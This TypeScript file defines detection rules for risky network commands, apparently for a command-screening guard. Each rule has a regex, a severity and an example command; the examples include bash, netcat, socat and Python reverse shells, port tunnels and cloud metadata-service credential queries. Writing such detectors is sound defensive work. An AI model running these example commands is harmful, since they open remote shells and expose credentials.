import { type GuardRule, rulesOf } from "../rule.ts";

/** Doors opened to or from other machines. */
export const network: readonly GuardRule[] = rulesOf("network", [
  {
    id: "bash-reverse-shell",
    severity: "critical",
    pattern: /\/dev\/(?:tcp|udp)\/[\w.$-]+\/[\w$]+/,
    says: "opens a raw connection from the shell, as reverse shells do",
    example: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
  },
  {
    id: "netcat-shell",
    severity: "critical",
    pattern: /\b(?:nc|ncat|netcat)\b.{0,80}\s-(?:\w*e\w*|c)\s+\S*(?:sh|bash|cmd)/,
    says: "hands a shell to the network",
    example: "nc 10.0.0.1 4444 -e /bin/sh",
  },
  {
    id: "netcat-listen",
    severity: "high",
    pattern: /\b(?:nc|ncat|netcat)\s+(?:-\w+\s+)*-\w*l/,
    says: "waits for incoming connections",
    example: "nc -lvp 4444",
  },
  {
    id: "socat-shell",
    severity: "critical",
    pattern: /\bsocat\b.{0,200}\b(?:EXEC|SYSTEM):/i,
    says: "connects a program to the network",
    example: "socat TCP:10.0.0.1:4444 EXEC:/bin/sh",
  },
  {
    id: "code-reverse-shell",
    severity: "critical",
    pattern: /(?:\bsocket\b.{0,200}\b(?:dup2|subprocess|pty\.spawn|\/bin\/sh)|\bos\.dup2\s*\(|pty\.spawn\s*\()/,
    says: "joins a socket with a shell",
    example: "import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0)",
  },
  {
    id: "public-tunnel",
    severity: "high",
    pattern: /\b(?:ngrok\s+(?:http|tcp)|cloudflared\s+tunnel|localtunnel|serveo\.net|bore\s+local|lt\s+--port)\b/i,
    says: "publishes a local port to the internet",
    example: "ngrok http 8080",
  },
  {
    id: "ssh-reverse-forward",
    severity: "high",
    pattern: /\bssh\b.{0,200}\s-\w*R\s*\S*\d+:/,
    says: "forwards a port of this machine to another one",
    example: "ssh -R 9000:localhost:22 host",
  },
  {
    id: "bind-everywhere",
    severity: "medium",
    pattern: /(?:--(?:host|bind|listen|address)[= ]|HOST=|\.listen\([^)]{0,40}["'])0\.0\.0\.0\b/i,
    says: "serves on every network interface",
    example: "python -m app --host 0.0.0.0",
  },
  {
    id: "hard-coded-address",
    severity: "medium",
    pattern:
      /\bhttps?:\/\/(?!127\.|10\.|192\.168\.|169\.254\.|0\.0\.0\.0|172\.(?:1[6-9]|2\d|3[01])\.)\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b/,
    says: "talks to a bare public address instead of a named host",
    example: "curl http://203.0.113.7/x",
  },
  {
    id: "metadata-service",
    severity: "critical",
    pattern: /\b169\.254\.169\.254\b|metadata\.google\.internal|\b100\.100\.100\.200\b/,
    says: "asks a cloud machine's metadata service, which gives out credentials",
    example: "curl http://169.254.169.254/latest/meta-data/",
  },
  {
    id: "tls-check-off",
    severity: "medium",
    pattern:
      /\b(?:curl\b.{0,120}\s(?:-k|--insecure)\b|wget\b.{0,120}--no-check-certificate|verify\s*=\s*False|NODE_TLS_REJECT_UNAUTHORIZED\s*=\s*["']?0|http\.sslVerify\s+false)/,
    says: "switches off the check of who answers",
    example: "curl -k https://example.test",
  },
  {
    id: "onion-address",
    severity: "high",
    pattern: /\b[a-z2-7]{16,56}\.onion\b/,
    says: "talks to a hidden service",
    example: "http://expyuzz4wqqyqhjn.onion",
  },
]);
